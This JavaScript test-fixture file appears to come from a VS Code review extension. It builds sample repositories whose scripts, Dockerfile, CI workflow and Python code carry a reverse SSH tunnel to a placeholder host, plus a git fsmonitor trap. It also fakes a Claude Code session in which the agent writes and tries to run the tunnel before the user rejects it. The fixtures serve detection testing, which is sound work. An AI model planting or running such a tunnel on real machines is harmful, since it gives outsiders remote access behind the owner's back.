/** The windows that tests run in: what is open in each, and whether its folder is trusted. */
import { execFileSync } from "node:child_process";
import { chmodSync, existsSync, mkdirSync, readFileSync, renameSync, rmSync, symlinkSync, writeFileSync } from "node:fs";
import path from "node:path";
import { makeExample } from "../../examples/make-example.mjs";
import { makeLargeWorkspace } from "../large-workspace.mjs";

/** A reverse tunnel that hides behind a wrapper and quotes: what the tests look for. */
export const tunnel = "timeout 5 s\\sh -fNR 9:localhost:22 agent@203.0.113.7";

/**
 * `name`: `test/vscode/in-host/<name>.window.ts` runs in it. `prepare` fills a new folder and says what to open. `isBench`: it
 * measures, and runs only when it is named. `isInstalled`: from its package, as users have it, and not from this folder. `env`: set for
 * the server and all it starts. `limitSeconds`: after which the window is given up (420 where absent).
 * @typedef {{
 *   name: string,
 *   hasTrust?: boolean,
 *   isBench?: boolean,
 *   isInstalled?: boolean,
 *   limitSeconds?: number,
 *   settings?: object,
 *   env?: (folder: string) => Record<string, string>,
 *   prepare: (folder: string) => { folder: string } | { workspace: string },
 * }} TestWindow
 */

/** @type {readonly TestWindow[]} */
export const windows = [
  { name: "repository", prepare: (folder) => ({ folder: changedRepository(folder) }) },
  { name: "example", prepare: (folder) => ({ folder: makeExample(folder).repository }) },
  {
    name: "review",
    // What is on the screen must not settle what these tests settle.
    settings: { "countersign.reading.viewedEvidence": false },
    prepare: (folder) => ({ folder: reviewersRepository(folder) }),
  },
  { name: "unborn", prepare: (folder) => ({ folder: unbornRepository(folder) }) },
  { name: "reading", prepare: (folder) => ({ folder: readingRepository(folder) }) },
  {
    name: "odd-files",
    settings: { "countersign.reading.viewedEvidence": false },
    prepare: (folder) => ({ folder: oddRepository(folder) }),
  },
  ...["clone", "signing"].map((name) => ({
    name,
    settings: { "countersign.reading.viewedEvidence": false },
    // Keys and sessions are looked for in the home of the person: here it lies beside the folder.
    env: (folder) => ({ HOME: path.join(folder, "home"), SSH_AUTH_SOCK: "", CLAUDE_CONFIG_DIR: path.join(folder, "home/.claude") }),
    prepare: (folder) => ({ folder: signersClone(folder) }),
  })),
  { name: "worktree", prepare: (folder) => ({ folder: linkedWorktree(folder) }) },
  {
    name: "no-git",
    // Nothing on the PATH, and where a git is for whoever names it. As from a command line: else the server asks a shell for another PATH.
    env: (folder) => ({ PATH: path.join(folder, "no-programs"), VSCODE_CLI: "1", COUNTERSIGN_TEST_GIT: gitOnPath() }),
    prepare: (folder) => ({ folder: reviewersRepository(folder) }),
  },
  { name: "plain-folder", prepare: (folder) => ({ folder: plainFolder(folder) }) },
  { name: "several-folders", prepare: severalFolders },
  {
    name: "server-life",
    settings: { "countersign.reading.viewedEvidence": false },
    prepare: (folder) => ({ folder: reviewersRepository(folder) }),
  },
  { name: "installed", isInstalled: true, prepare: (folder) => ({ folder: reviewersRepository(folder) }) },
  { name: "start", isBench: true, isInstalled: true, prepare: (folder) => ({ folder: plainFolder(folder) }) },
  { name: "speed", isBench: true, limitSeconds: 600, prepare: (folder) => ({ folder: makeLargeWorkspace(folder, 20_000) }) },
  { name: "restricted", hasTrust: true, prepare: (folder) => ({ folder: hostileRepository(folder) }) },
];

/** One commit on main with an old tunnel in it, and an uncommitted change that brings a new one. */
export function changedRepository(folder) {
  write(folder, {
    "old.sh": `#!/bin/sh\necho start\nssh -R 7:localhost:22 old@198.51.100.1\n`,
    "README.md": "# A project\n",
    "train.py": "import math\n\nprint(math.pi)\n",
  });
  git(folder, "init", "-q", "-b", "main");
  git(folder, "add", ".");
  git(folder, "commit", "-q", "-m", "Start");
  write(folder, {
    "old.sh": `#!/bin/sh\necho start\nssh -R 7:localhost:22 old@198.51.100.1\necho more\n${tunnel}\n`,
    "new file.sh": `#!/bin/sh\n${tunnel}\n`,
  });
  return folder;
}

/** The same, where git knows who reviews. */
export function reviewersRepository(folder) {
  changedRepository(folder);
  nameReader(folder);
  return folder;
}

/** A worktree on a branch of its own; the repository it belongs to lies beside it. */
function linkedWorktree(folder) {
  const main = `${folder}-main`;
  reviewersRepository(main);
  git(main, "worktree", "add", "-q", "-b", "agent", folder);
  write(folder, {
    "old.sh": `#!/bin/sh\necho start\nssh -R 7:localhost:22 old@198.51.100.1\necho more\n`,
    "README.md": "# A project\n\nMore.\n",
  });
  git(folder, "commit", "-q", "-a", "-m", "Say more");
  return folder;
}

/**
 * Ada's clone, on the branch that an agent pushed: three files of different risk, her key among the signers of the base and another beside
 * it, and the agent's session where agents keep them.
 */
function signersClone(folder) {
  const parent = path.dirname(folder);
  const author = path.join(parent, "author");
  const keys = path.join(parent, "home/.ssh");
  mkdirSync(keys, { recursive: true });
  mkdirSync(author);
  for (const [file, kind] of [
    ["id_ed25519", "ed25519"],
    ["id_ecdsa", "ecdsa"],
  ])
    execFileSync("ssh-keygen", ["-q", "-t", kind, "-N", "", "-C", "", "-f", path.join(keys, file)]);
  git(parent, "init", "-q", "--bare", "-b", "main", "origin.git");
  git(author, "init", "-q", "-b", "main");
  git(author, "remote", "add", "origin", path.join(parent, "origin.git"));
  const key = readFileSync(path.join(keys, "id_ed25519.pub"), "utf8");
  write(author, {
    "README.md": "# A project\n",
    "train.py": "import math\n\nprint(math.pi)\n",
    ".countersign/policy.yml": "version: 1\nreviewers: 1\n",
    ".countersign/allowed_signers": `ada@example.invalid namespaces="countersign-review-v1" ${key}`,
  });
  git(author, "add", ".");
  git(author, "commit", "-q", "-m", "Start");
  git(author, "branch", "release");
  git(author, "checkout", "-q", "-b", "feature");
  write(author, {
    "README.md": "# A project\n\nIt trains.\n",
    "train.py": "import math\n\nprint(math.tau)\n",
    "run.sh": `#!/bin/sh\n${tunnel}\n`,
  });
  git(author, "add", ".");
  git(author, "commit", "-q", "-m", "Train on the lab's machine");
  git(author, "push", "-q", "origin", "main", "release", "feature");
  git(parent, "clone", "-q", "-b", "feature", "origin.git", folder);
  nameReader(folder);
  const session = path.join(parent, "home/.claude/projects", folder.replace(/[^a-zA-Z0-9-]/g, "-"));
  write(session, { "5f1c1c9e-0000-4000-8000-000000000001.jsonl": agentsSession(folder) });
  return folder;
}

/** As Claude Code records that it wrote `run.sh` and was not allowed to run it. */
function agentsSession(folder) {
  const text = `#!/bin/sh\n${tunnel}\n`;
  const file_path = path.join(folder, "run.sh");
  const common = {
    sessionId: "5f1c1c9e-0000-4000-8000-000000000001",
    cwd: folder,
    version: "2.0.0",
    gitBranch: "feature",
    isSidechain: false,
    userType: "external",
  };
  const call = (id, name, input) => ({
    role: "assistant",
    model: "claude",
    id: `msg_${id}`,
    content: [{ type: "tool_use", id, name, input }],
  });
  const answer = (id, content, isError) => ({
    role: "user",
    content: [{ type: "tool_result", tool_use_id: id, content, is_error: isError }],
  });
  const created = { type: "create", filePath: file_path, content: text, structuredPatch: [], originalFile: null };
  const refused =
    "The user doesn't want to proceed with this tool use. The tool use was rejected (eg. if it was a file edit, the new_string was NOT written to the file).";
  const records = [
    { type: "user", message: { role: "user", content: "Train on the lab's machine" } },
    { type: "assistant", message: call("toolu_01", "Write", { file_path, content: text }) },
    { type: "user", message: answer("toolu_01", `File created successfully at: ${file_path}`, false), toolUseResult: created },
    { type: "assistant", message: call("toolu_02", "Bash", { command: tunnel, description: "Connect" }) },
    { type: "user", message: answer("toolu_02", refused, true), toolUseResult: "User rejected tool use" },
  ];
  const lines = records.map((record, at) => ({
    ...common,
    uuid: String(at + 1),
    parentUuid: at === 0 ? null : String(at),
    timestamp: `2026-01-01T00:00:0${at}.000Z`,
    ...record,
  }));
  return lines.map((line) => `${JSON.stringify(line)}\n`).join("");
}

/** A repository without a commit. */
function unbornRepository(folder) {
  write(folder, { "setup.sh": `#!/bin/sh\necho start\n${tunnel}\n` });
  git(folder, "init", "-q", "-b", "main");
  nameReader(folder);
  return folder;
}

/** An uncommitted change with a hunk of each sort to read, in a repository that knows its reader. */
export function readingRepository(folder) {
  const script = ["#!/bin/sh", "set -e", "echo start", "cp a b", "cp b c", "cp c d", "echo middle", "ls -l", "ls -a", "echo end"];
  write(folder, {
    "build.sh": `${script.join("\n")}\n`,
    "notes.md": "# Notes\n\nHow to build.\n\nRun the script.\n",
    "gone.sh": "#!/bin/sh\necho gone\n",
    "train.py": "import subprocess\n\nprint(1)\n",
  });
  git(folder, "init", "-q", "-b", "main");
  nameReader(folder);
  git(folder, "add", ".");
  git(folder, "commit", "-q", "-m", "Start");
  const changed = script.flatMap((line) =>
    line === "set -e" ? ["set -eu"] : line === "cp b c" ? [] : line === "ls -a" ? ["ls -a", tunnel] : [line],
  );
  write(folder, {
    "build.sh": `${changed.join("\n")}\n`,
    "notes.md": "# Notes\n\nHow to build it.\n\nRun the script.\n",
    "train.py": `import subprocess\n\nprint(1)\nsubprocess.run("${tunnel.replace("s\\sh", "ssh")}", shell=True)\n`,
    Dockerfile: `FROM debian:12\nRUN echo start && \\\n    ${tunnel}\n`,
    ".github/workflows/ci.yml": `on: push\njobs:\n  build:\n    runs-on: ubuntu-latest\n    steps:\n      - run: |\n          echo start\n          ${tunnel}\n`,
  });
  rmSync(path.join(folder, "gone.sh"));
  return folder;
}

/** An uncommitted change of all that is not simply a text with another line. */
function oddRepository(folder) {
  const module = Array.from({ length: 30 }, (_, at) => `export const n${at} = ${at};`);
  write(folder, {
    "old-name.ts": `${module.join("\n")}\n`,
    "windows.txt": "one\r\ntwo\r\nthree\r\n",
    "gone.py": "print(1)\n",
    "picture.bin": "a\0b\n",
    "Zürich/日本 – ü.sh": "#!/bin/sh\necho start\n",
    "run.sh": "#!/bin/sh\necho run\n",
    "long.sh": "#!/bin/sh\n",
  });
  git(folder, "init", "-q", "-b", "main");
  nameReader(folder);
  git(folder, "add", ".");
  git(folder, "commit", "-q", "-m", "Start");
  rmSync(path.join(folder, "gone.py"));
  renameSync(path.join(folder, "old-name.ts"), path.join(folder, "new-name.ts"));
  write(folder, {
    "new-name.ts": `${module.join("\n").replace("n7 = 7", "n7 = 77")}\n`,
    "windows.txt": "one\r\nTWO\r\nthree\r\nfour\r\n",
    "picture.bin": "a\0c\n",
    "Zürich/日本 – ü.sh": `#!/bin/sh\necho start\n${tunnel}\n`,
    "long.sh": `#!/bin/sh\n${Array.from({ length: 3000 }, (_, at) => `echo ${at}\n`).join("")}`,
  });
  chmodSync(path.join(folder, "run.sh"), 0o755);
  symlinkSync("run.sh", path.join(folder, "link.sh"));
  return folder;
}

function plainFolder(folder) {
  write(folder, { "setup.sh": `#!/bin/sh\necho start\n${tunnel}\n`, "empty.txt": "" });
  return folder;
}

function severalFolders(folder) {
  reviewersRepository(path.join(folder, "first"));
  plainFolder(path.join(folder, "second"));
  reviewersRepository(path.join(folder, "third"));
  const file = path.join(folder, "several.code-workspace");
  writeFileSync(file, JSON.stringify({ folders: ["first", "second", "third"].map((path) => ({ path })) }));
  return { workspace: file };
}

/** A repository that tries to configure the one who looks at it. */
function hostileRepository(folder) {
  changedRepository(folder);
  write(folder, {
    ".vscode/settings.json": JSON.stringify({ "countersign.diagnostics.scope": "all" }),
    ".countersign/policy.yml": "gate: off\n",
  });
  const trap = path.join(folder, "trap.sh");
  writeFileSync(trap, `#!/bin/sh\ntouch ${JSON.stringify(path.join(folder, "git-was-run"))}\n`, { mode: 0o755 });
  git(folder, "config", "core.fsmonitor", trap);
  return folder;
}

export function write(folder, files) {
  for (const [name, text] of Object.entries(files)) {
    const file = path.join(folder, name);
    mkdirSync(path.dirname(file), { recursive: true });
    writeFileSync(file, text);
  }
}

function gitOnPath() {
  const folders = (process.env.PATH ?? "").split(path.delimiter).filter((folder) => path.isAbsolute(folder));
  return folders.map((folder) => path.join(folder, "git")).find((file) => existsSync(file)) ?? "";
}

/** Whose marks they are that are made in this repository. */
function nameReader(folder) {
  git(folder, "config", "user.name", "Ada");
  git(folder, "config", "user.email", "ada@example.invalid");
}

export function git(folder, ...words) {
  const identity = ["-c", "user.name=Tester", "-c", "user.email=tester@example.invalid", "-c", "commit.gpgsign=false"];
  execFileSync("git", [...identity, ...words], { cwd: folder, stdio: ["ignore", "ignore", "inherit"] });
}
